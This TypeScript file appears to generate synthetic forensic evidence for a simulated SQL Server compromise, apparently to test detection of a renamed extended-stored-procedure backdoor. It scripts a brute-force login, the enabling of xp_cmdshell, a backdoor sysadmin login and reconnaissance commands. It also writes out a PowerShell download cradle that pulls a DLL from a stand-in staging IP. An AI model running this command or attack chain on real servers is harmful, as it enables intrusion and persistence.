/**
 * host-renamed: SQL02.corp.example.com, Windows Server 2016, SQL Server 2016 named instance
 * REPORTING (MSSQL13.REPORTING, provider MSSQL$REPORTING), UTC-5, NO Sysmon. The backdoor is
 * renamed: procedure xp_dbmaint in C:\Windows\Temp\dbmaint64.dll, no published strings, so
 * only generic traits remain (ESP outside Binn, recent non-shipped registration, brute force,
 * xp_cmdshell, commands under sqlservr.exe in Security 4688).
 */
import { HostBuilder } from '../lib/host-builder.js';
import { samplePath, type HostConfig } from '../lib/host-config.js';
import { factsOf } from '../lib/host-builder.js';
import * as sql from '../lib/sql-messages.js';
import {
  binnLoad, dll, HOUR, layout, MIN, ms, nightlyBackups, placeBinn, routineLogins, sqlExports, sqlservrStarted, windowsNoise, winProc, type Background, type DllBytes,
} from './common.js';

export const RENAMED_CONFIG: HostConfig = {
  id: 'host-renamed',
  netbios: 'SQL02',
  fqdn: 'SQL02.corp.example.com',
  domain: 'CORP',
  instance: 'REPORTING',
  instanceFolder: 'MSSQL13.REPORTING',
  sql: {
    bannerProduct: 'Microsoft SQL Server 2016 (RTM) - 13.0.1601.5 (X64) ',
    bannerBuildDate: 'Apr 29 2016 23:23:58 ',
    bannerCopyright: 'Copyright (c) Microsoft Corporation',
    bannerEdition: 'Standard Edition (64-bit) on Windows Server 2016 Standard 10.0 <X64> (Build 14393: ) (Hypervisor)',
    productVersion: '13.0.1601.5',
    edition: 'Standard Edition (64-bit)',
    xpVersion: '2015.130.1601',
    resourceVersion: '13.00.1601',
  },
  utcOffsetMinutes: -300,
  timeZoneText: '300 Eastern Standard Time',
  hasSysmon: false,
  domainSid: 'S-1-5-21-3623811015-3361044348-30300820',
};

export const RENAMED_STORY = {
  attackerIp: '198.51.100.14',
  stagingUrl: 'http://198.51.100.23/upd.bin',
  dllPath: 'C:\\Windows\\Temp\\dbmaint64.dll',
  procedure: 'xp_dbmaint',
  backdoorLogin: 'rpt_monitor',
  times: {
    boot: '2026-02-16T11:02:10.000Z',
    sqlStart: '2026-02-16T11:03:25.940Z',
    bruteForceStart: '2026-02-18T04:03:11.120Z',
    bruteForceEnd: '2026-02-18T04:06:58.470Z',
    saLogin: '2026-02-18T04:07:02.900Z',
    xpCmdshellOn: '2026-02-18T04:07:40.260Z',
    backdoorLoginCreated: '2026-02-18T04:08:12.613Z',
    dllDownloaded: '2026-02-18T04:09:30.410Z',
    espRegistered: '2026-02-18T04:10:55.287Z',
    espFirstLoad: '2026-02-18T04:11:09.730Z',
    whoami: '2026-02-18T04:11:40.050Z',
    domainAdmins: '2026-02-18T04:13:22.480Z',
    collected: '2026-02-19T15:00:00.000Z',
  },
} as const;

export function buildHostRenamed(dlls: DllBytes): Map<string, Uint8Array> {
  const cfg = RENAMED_CONFIG;
  const S = RENAMED_STORY;
  const T = (k: keyof typeof S.times): number => ms(S.times[k]);
  const b = new HostBuilder(cfg, 0x7e4a3d);
  const bg: Background = { databases: ['ReportServer$REPORTING', 'ReportServer$REPORTINGTempDB', 'Finance_DW'], appServerIp: '10.10.30.12', appLogin: 'ssrs_exec', dbaIp: '10.10.20.15', dbaLogin: 'CORP\\dba.jsmith', auditSuccess: true };
  const admin = { user: 'dba.jsmith', sid: `${cfg.domainSid}-1187`, ip: '10.10.20.15' };

  b.startup(T('sqlStart'), 3040, 2996, '2/16/2026 5:58:41 AM (local) 2/16/2026 10:58:41 AM (UTC)', bg.databases);
  sqlservrStarted(b, T('sqlStart'));
  const svc = b.sqlservr!;
  binnLoad(b, dlls, T('sqlStart') + 48_200, 'spid53', 'xpstar.dll', 'xp_instance_regread');
  binnLoad(b, dlls, T('sqlStart') + 48_770, 'spid53', 'xpsqlbot.dll', 'xp_qv');
  binnLoad(b, dlls, ms('2026-02-16T14:31:05.210Z'), 'spid61', 'xplog70.dll', 'xp_msver');
  nightlyBackups(b, bg, T('sqlStart'), T('collected'));
  routineLogins(b, bg, T('sqlStart') + HOUR, T('collected'));

  const users = ['sa', 'sa', 'reporting', 'sa', 'sa', 'sa', 'report'];
  const attempts = 31;
  for (let i = 0; i < attempts; i++) {
    const t = T('bruteForceStart') + Math.round(((T('bruteForceEnd') - T('bruteForceStart')) * i) / (attempts - 1));
    const u = users[i % users.length]!;
    b.sql(t, 'Logon', sql.loginFailed(u, u === 'sa' ? 8 : 5, S.attackerIp));
  }
  b.sql(T('saLogin'), 'Logon', sql.loginSucceeded('sa', S.attackerIp, false));
  b.sql(T('xpCmdshellOn') - 510, 'spid57', sql.configChanged('show advanced options', 0, 1));
  b.sql(T('xpCmdshellOn'), 'spid57', sql.configChanged('xp_cmdshell', 0, 1));

  const subj = b.serviceSubject;
  const download = `powershell -nop -c "(New-Object Net.WebClient).DownloadFile('${S.stagingUrl}','${S.dllPath}')"`;
  const cmd1 = winProc(b, T('dllDownloaded'), 5544, 'C:\\Windows\\System32\\cmd.exe', `cmd.exe /c ${download}`, svc, subj, svc.user);
  winProc(b, T('dllDownloaded') + 60, 5588, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', download, cmd1, subj, svc.user);

  const bytes = dll(dlls, 'dbmaint64.dll');
  b.espLoad(T('espFirstLoad'), 'spid57', S.dllPath, '2.1.7', S.procedure, { path: S.dllPath, facts: factsOf(bytes), desc: 'Database maintenance helper (espy sample, inert)', original: 'dbmaint64.dll', fileVersion: '2.1.7.0', signed: false });
  winProc(b, T('whoami'), 1488, 'C:\\Windows\\System32\\whoami.exe', 'whoami /priv', svc, subj, svc.user);
  const cmd2 = winProc(b, T('domainAdmins'), 6120, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c net group "domain admins" /domain', svc, subj, svc.user);
  winProc(b, T('domainAdmins') + 25, 6164, 'C:\\Windows\\System32\\net.exe', 'net  group "domain admins" /domain', cmd2, subj, svc.user);

  windowsNoise(b, T('sqlStart') - 2 * MIN, T('collected'), [T('boot')], admin);

  const placed = new Map<string, Uint8Array>();
  placeBinn(cfg, dlls, placed);
  placed.set(samplePath(S.dllPath), bytes);
  const exports = sqlExports(cfg, {
    esps: [{ name: S.procedure, dll: S.dllPath, created: T('espRegistered'), msShipped: false }],
    principals: [
      { name: 'ssrs_exec', type: 'SQL_LOGIN', created: '2021-06-15 10:20:31.877' },
      { name: `NT SERVICE\\ReportServer$REPORTING`, type: 'WINDOWS_LOGIN', created: '2021-06-14 15:31:40.113' },
      { name: S.backdoorLogin, type: 'SQL_LOGIN', created: T('backdoorLoginCreated') },
    ],
    sysadmins: [[S.backdoorLogin, 'SQL_LOGIN']],
    config: { 'show advanced options': 1, 'xp_cmdshell': 1, 'max server memory (MB)': 8192 },
  });
  return layout(b, { app: 77310, system: 41022, security: 2_310_447, sysmon: 1 }, placed, exports);
}
